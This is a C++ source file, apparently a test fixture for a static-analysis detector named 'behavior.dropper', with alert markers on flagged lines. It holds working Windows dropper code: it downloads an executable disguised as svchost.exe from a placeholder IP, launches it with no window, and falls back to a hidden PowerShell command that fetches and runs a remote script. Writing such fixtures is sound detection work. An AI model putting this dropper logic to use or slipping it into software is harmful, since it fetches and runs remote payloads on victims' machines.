// behavior.dropper on Windows: URLDownloadToFileA fetches an executable
// into %TEMP% (download and save in one call) and CreateProcessA starts
// it; a second stage is fetched with powershell's DownloadString and run
// with IEX. The Win32 declarations are written out (windows.h is not
// available here).
#include <cstdio>
#include <cstdlib>

extern "C" {
typedef int BOOL;
typedef long HRESULT;
typedef unsigned long DWORD;
typedef void *HANDLE;
typedef struct _STARTUPINFOA { DWORD cb; char pad[100]; } STARTUPINFOA;
typedef struct _PROCESS_INFORMATION { HANDLE hProcess, hThread; DWORD pid, tid; } PROCESS_INFORMATION;
HRESULT URLDownloadToFileA(void *pCaller, const char *szURL, const char *szFileName, DWORD dwReserved, void *lpfnCB);
BOOL CreateProcessA(const char *lpApplicationName, char *lpCommandLine, void *lpProcessAttributes,
                    void *lpThreadAttributes, BOOL bInheritHandles, DWORD dwCreationFlags, void *lpEnvironment,
                    const char *lpCurrentDirectory, STARTUPINFOA *lpStartupInfo, PROCESS_INFORMATION *lpProcessInformation);
}

#define CREATE_NO_WINDOW 0x08000000
#define PAYLOAD_URL "http://203.0.113.80/files/svchost.exe"
#define PAYLOAD_PATH "C:\\Users\\Public\\Libraries\\svchost.exe"

static void second_stage()
{
    std::system("powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.80/s2.ps1')\""); // $ Alert[behavior.dropper]
}

int main()
{
    STARTUPINFOA si = {sizeof(si), {0}};
    PROCESS_INFORMATION pi;

    if (URLDownloadToFileA(nullptr, PAYLOAD_URL, PAYLOAD_PATH, 0, nullptr) != 0) {
        second_stage();
        return 1;
    }
    CreateProcessA(PAYLOAD_PATH, nullptr, nullptr, nullptr, 0, CREATE_NO_WINDOW, nullptr, nullptr, &si, &pi); // $ Alert[behavior.dropper]
    return 0;
}
